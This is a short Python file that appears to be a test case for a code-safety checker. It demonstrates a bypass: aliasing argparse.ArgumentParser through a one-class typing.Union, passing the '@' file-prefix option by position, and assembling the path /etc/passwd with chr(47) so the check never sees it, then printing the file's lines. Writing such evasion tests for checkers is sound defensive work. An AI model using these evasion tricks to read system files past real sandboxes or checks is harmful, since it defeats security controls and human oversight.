# source: CPython Lib/argparse.py ArgumentParser.__init__ (8th positional is fromfile_prefix_chars) and _read_args_from_files (opens the file named after the prefix); CPython: `X | X` of one class is X
# family: type alias of a refused class (typing.Union of one class, collapsing to argparse.ArgumentParser) called with refused parameters by position
# goal: read /etc/passwd (a path the check never read) through argparse's @file expansion
import argparse
from typing import Union
Parser = Union[argparse.ArgumentParser]
p = Parser("x", None, None, None, [], argparse.HelpFormatter, "-", "@")
target = "@" + chr(47) + "etc" + chr(47) + "passwd"
ns, rest = p.parse_known_args([target])
print("lines read from the file:", rest[:5])
